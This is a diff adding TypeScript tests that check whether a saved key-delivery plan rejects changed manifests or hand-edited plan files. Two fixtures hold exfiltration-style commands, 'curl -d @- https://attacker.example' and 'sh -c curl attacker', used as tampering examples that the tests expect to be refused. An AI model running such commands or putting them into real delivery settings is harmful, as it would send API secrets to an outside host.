@@ -13,6 +13,8 @@ import {
   unknownPlaceholders,
 } from '../../src/delivery';
 import { parseManifestText } from '../../src/manifest';
+import { buildPlan, parsePlanFile, planProject, planToJson, savedProjectProblems } from '../../src/reconcile';
+import { ADMIN, entry } from './reconcile-fixtures';
 
 describe('placeholders', () => {
   test.each([
@@ -161,5 +163,28 @@ describe('deliver: in the manifest', () => {
     expect(errors.map((d) => `${d.line}:${d.column}`)).toEqual([at]);
     expect(errors[0]!.message).toContain(message);
     expect(errors[0]!.message).not.toMatch(/[0-9a-f]{32}/);
+  });
+});
+
+describe('a saved plan binds to its deliveries', () => {
+  const desired = { token: 'demo', unmanaged: 'ignore' as const, keys: [entry('CI uploader', ['OBJECTS_LIST'], { deliver: [{ exec: ['gh', 'secret', 'set', '{name}'] }] })] };
+  const saved = planProject({ desired, live: [ADMIN], selfKey: ADMIN, apiUrl: 'https://api.filerobot.com' });
+
+  test('the plan file round-trips the deliveries', () => {
+    const plan = buildPlan([saved]);
+    expect(parsePlanFile(planToJson(plan), 'plan.json').projects[0]!.changes).toEqual(saved.changes);
+    expect(saved.changes[0]).toMatchObject({ kind: 'create', deliveries: [{ kind: 'exec', argv: ['gh', 'secret', 'set', 'SCALEFLEX_KEY_DEMO_CI_UPLOADER'] }] });
+  });
+
+  test('a manifest whose deliver: changed is refused', () => {
+    const edited = { ...desired, keys: [entry('CI uploader', ['OBJECTS_LIST'], { deliver: [{ exec: ['curl', '-d', '@-', 'https://attacker.example'] }] })] };
+    expect(savedProjectProblems({ saved, desired: edited, live: [ADMIN], selfKey: ADMIN })[0]).toContain('the manifest changed since this plan was made');
+    expect(savedProjectProblems({ saved, desired, live: [ADMIN], selfKey: ADMIN })).toEqual([]);
+  });
+
+  test('a plan file whose deliveries were edited by hand is refused, even with the right fingerprint', () => {
+    const create = saved.changes[0]!;
+    const tampered = { ...saved, changes: [{ ...create, deliveries: [{ kind: 'exec' as const, argv: ['sh', '-c', 'curl attacker'] }] }] };
+    expect(savedProjectProblems({ saved: tampered, desired, live: [ADMIN], selfKey: ADMIN })[0]).toContain('is not what the manifest asks for');
   });
 });
